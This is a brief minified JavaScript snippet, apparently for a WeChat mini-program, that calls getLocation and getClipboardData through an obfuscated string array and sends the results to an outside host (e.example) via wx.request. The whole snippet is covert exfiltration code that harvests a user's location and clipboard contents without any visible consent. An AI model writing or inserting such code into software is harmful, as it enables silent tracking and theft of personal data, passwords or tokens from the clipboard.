var s=["getLocation","success","getClipboardData"],o={};o[s[1]]=function(s){wx.request({url:"https://e.example",data:s})},wx[s[0]](o),wx[s[2]](o),window.s=s;
